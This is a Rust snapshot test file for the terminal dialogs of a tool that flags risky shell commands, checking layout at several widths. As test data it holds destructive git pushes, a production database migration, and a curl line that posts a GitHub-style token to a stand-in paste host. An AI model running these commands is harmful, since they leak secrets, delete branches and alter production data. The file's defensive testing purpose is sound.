//! The dialogs whole, at every width that is promised: to be read aloud when they change.

use super::*;

const WIDTHS: [usize; 5] = [20, 40, 60, 80, 200];
const LINE: &str = "git push origin --delete topic";

/// One dialog, without colour and with it, at these widths. The escapes are written out.
fn look(line: &str, judged: &Verdict, widths: &[usize]) -> String {
    let mut out = String::new();
    for &columns in widths {
        let plain = verdict(line, judged, Tense::Now, Style { columns, ..UNICODE });
        let _ = writeln!(out, "{columns} columns\n{plain}");
    }
    let colour = verdict(line, judged, Tense::Now, Style { columns: 80, ..COLOUR });
    let _ = writeln!(out, "80 columns, in colour\n{}", colour.replace('\x1b', "␛"));
    out
}

fn several() -> Verdict {
    let other =
        finding("git.push-force", "Overwrites main on origin; 1 commit would be lost.", Span::new(41, 48));
    asked(vec![full(), full(), other])
}

fn deny() -> Verdict {
    let short = Finding {
        decision: Decision::Deny,
        ..finding("git.push-delete-protected", "Deletes main on origin.", Span::new(16, 29))
    };
    Verdict { decision: Decision::Deny, ..asked(vec![short]) }
}

#[test]
fn a_question() {
    insta::assert_snapshot!(look(LINE, &asked(vec![full()]), &WIDTHS));
}

#[test]
fn several_findings() {
    let line = "git push origin --delete topic; git push --force origin main";
    insta::assert_snapshot!(look(line, &several(), &WIDTHS));
}

#[test]
fn a_stop() {
    let line = "git push origin --delete main";
    let ends: String = WIDTHS.iter().map(|&columns| way_past(line, Style { columns, ..UNICODE })).collect();
    insta::assert_snapshot!(look(line, &deny(), &WIDTHS) + &ends);
}

fn severe() -> Verdict {
    let reason = "`alembic` would change the schema of postgres://app@db.prod.acme.com/app, which is production (by \
                  .env: DATABASE_URL).";
    asked(vec![Finding {
        instead: Some(Instead { text: "alembic upgrade head --sql".into(), runs: true }),
        confirm: Some("db.prod.acme.com".into()),
        ..finding("database.migrate-production", reason, Span::new(0, 20))
    }])
}

#[test]
fn a_severe_question() {
    insta::assert_snapshot!(look("alembic upgrade head", &severe(), &WIDTHS));
}

#[test]
fn in_ascii() {
    let pages = WIDTHS.map(|columns| {
        let style = Style { columns, ..ASCII };
        let page = verdict(LINE, &asked(vec![full()]), Tense::Now, style);
        format!("{columns} columns\n{page}{}", question("Run it anyway?", YES_NO, Decision::Ask, style))
    });
    assert!(pages.iter().all(|page| page.is_ascii()), "{pages:?}");
    insta::assert_snapshot!(pages.join("\n\n"));
}

#[test]
fn a_long_line() {
    let line = format!("{}{LINE}{}", "make all && ".repeat(30), " && make install".repeat(30));
    let start = line.find("--delete").unwrap();
    let found = Finding { span: Span::new(start, start + 14), ..full() };
    insta::assert_snapshot!(look(&line, &asked(vec![found]), &WIDTHS));
}

#[test]
fn a_secret() {
    let token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
    let line = format!("curl -d t={token} https://paste.example");
    let found =
        finding("transfer.secret", "a GitHub token would be published", Span::new(8, 10 + token.len()));
    let page = look(&line, &asked(vec![found]), &WIDTHS);
    assert!(!page.contains("16C7e42F"), "{page}");
    insta::assert_snapshot!(page);
}

#[test]
fn no_dialog_is_broken_by_the_terminal() {
    for columns in WIDTHS {
        for style in [ASCII, UNICODE] {
            let style = Style { columns, ..style };
            for (line, judged) in
                [(LINE, asked(vec![full()])), (LINE, several()), (LINE, deny()), (LINE, severe())]
            {
                let page =
                    verdict(line, &judged, Tense::Now, style) + &way_past(line, style) + &note(line, style);
                assert!(page.lines().all(|line| super::columns(line) <= columns), "{columns}: {page}");
                let lines = verdict(line, &judged, Tense::Now, style).lines().count();
                let below = if judged.findings.iter().any(|found| found.confirm.is_some()) { 2 } else { 1 };
                assert!(lines + below <= 10, "{columns}: {page}");
            }
        }
    }
}

#[test]
fn what_would_be_lost_stands_before_the_way_out() {
    let page = verdict(LINE, &asked(vec![full()]), Tense::Now, Style { columns: 80, ..UNICODE });
    let order = [LINE, "exist nowhere else", "lost ", "safer ", "kept ", "rule "];
    let places: Vec<usize> = order.iter().map(|part| page.find(part).unwrap()).collect();
    assert!(places.is_sorted(), "{page}");
}

#[test]
fn a_narrow_terminal_still_names_the_rule() {
    let named = |columns| {
        let page = verdict(LINE, &deny(), Tense::Now, Style { columns, ..UNICODE });
        page.lines().last().unwrap().trim_start_matches("│ rule").trim().to_owned()
    };
    assert_eq!(named(40), "git.push-delete-protected");
    assert_eq!(named(60), "forestall explain git.push-delete-protected");
    assert_eq!(named(100), "git.push-delete-protected (forestall explain git.push-delete-protected)");
}

#[test]
fn combining_and_wide_characters_take_the_columns_they_take() {
    let line = "echo e\u{301}漢 x";
    let at = line.find('x').unwrap();
    let (text, marks) = marked(line, &[Span::new(at, at + 1)], 40, UNICODE);
    assert_eq!((text.as_str(), marks.as_str()), (line, "         ^"));
}
